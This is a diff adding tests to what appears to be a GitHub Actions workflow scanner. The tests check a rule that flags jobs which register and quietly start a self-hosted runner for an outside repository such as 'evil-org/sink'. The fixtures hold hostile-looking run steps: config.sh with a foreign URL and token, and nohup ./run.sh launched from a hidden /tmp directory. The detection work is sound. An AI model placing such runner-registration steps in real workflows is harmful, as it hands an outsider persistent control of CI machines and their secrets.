@@ -27,6 +27,32 @@ function only(content: string, id: string): [string, string, number | null][] {
 
 const job = (steps: string, extra = '') => `jobs:\n  main:\n    runs-on: ubuntu-latest\n${extra}    steps:\n${steps}`;
 
+describe('github-persistence in a workflow (a runner registered by a run: step)', () => {
+  it('reports a job that configures a runner for another repository and starts it (high), or only configures one (medium)', () => {
+    const worm = `on: [push, pull_request]\n${job(`      - run: |
+          mkdir -p /tmp/.r && cd /tmp/.r
+          ./config.sh --unattended --url https://github.com/evil-org/sink --token AAAAQWERTY --name ci-$RANDOM
+          nohup ./run.sh >/dev/null 2>&1 &
+`)}`;
+    expect(only(worm, 'github-persistence')).toEqual([['github-persistence', 'high', 8]]);
+    const jit = `on: push\n${job('      - run: cd /opt/runner && ./run.sh --jitconfig "$JIT" &\n        env:\n          JIT: ${{ secrets.RUNNER_JIT }}\n')}`;
+    expect(only(jit, 'github-persistence')).toEqual([['github-persistence', 'high', 6]]);
+    const continued = `on: push\n${job(`      - run: |
+          ./config.sh \\
+            --url https://github.com/someone/sink \\
+            --token "$T" --unattended
+`)}`;
+    expect(only(continued, 'github-persistence')).toEqual([['github-persistence', 'medium', 7]]);
+  });
+
+  it('leaves another tool\'s config.sh and run.sh, and keeps a self-hosted fleet\'s own re-registration medium', () => {
+    const configure = `on: push\n${job('      - run: ./config.sh --prefix=/usr && make && ./run.sh tests\n')}`;
+    expect(only(configure, 'github-persistence')).toEqual([]);
+    const fleet = `on:\n  schedule:\n    - cron: '0 3 * * 1'\njobs:\n  rotate:\n    runs-on: [self-hosted, infra]\n    steps:\n      - run: |\n          ./config.sh --url https://github.com/acme --token "$ADD" --unattended --replace\n          sudo ./svc.sh start\n`;
+    expect(only(fleet, 'github-persistence')).toEqual([['github-persistence', 'medium', 9]]);
+  });
+});
+
 describe('gha-template-injection', () => {
   it('reports outsider text expanded into run: or github-script, through ||, format() and toJSON()', () => {
     const workflow = `on:
